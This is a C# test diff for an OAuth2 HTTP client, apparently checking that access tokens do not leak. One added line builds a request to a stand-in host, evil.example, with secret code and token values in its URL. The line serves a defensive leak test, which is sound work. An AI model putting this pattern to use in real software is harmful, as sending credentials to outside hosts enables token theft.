@@ -17,7 +17,7 @@ public sealed class LeakTests
         await using var site = await TestSite.StartAsync(configure: builder =>
         {
             builder.Logging.SetMinimumLevel(LogLevel.Trace).AddProvider(output);
-            builder.Services.AddHttpClient("api").AddOAuth2AccessToken<AcmeClient, AcmeClient.AuthData>()
+            builder.Services.AddHttpClient("api", static http => http.BaseAddress = new Uri("https://api.example/")).AddOAuth2AccessToken<AcmeClient, AcmeClient.AuthData>()
                 .ConfigurePrimaryHttpMessageHandler(static () => new RefusingApi());
         });
         var run = new Run(site, output);
@@ -134,6 +134,9 @@ public sealed class LeakTests
             using var request = new HttpRequestMessage(HttpMethod.Get, "https://api.example/").ForOAuth2User("alice");
             using var response = await http.SendAsync(request);
             Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
+            Tell(request.ToString());
+            using var elsewhere = new HttpRequestMessage(HttpMethod.Get, $"https://evil.example/{Secret("code")}?t={Secret("token")}").ForOAuth2User("alice");
+            await TellExceptionAsync(() => http.SendAsync(elsewhere));
         }
 
         public async Task EndAsync()
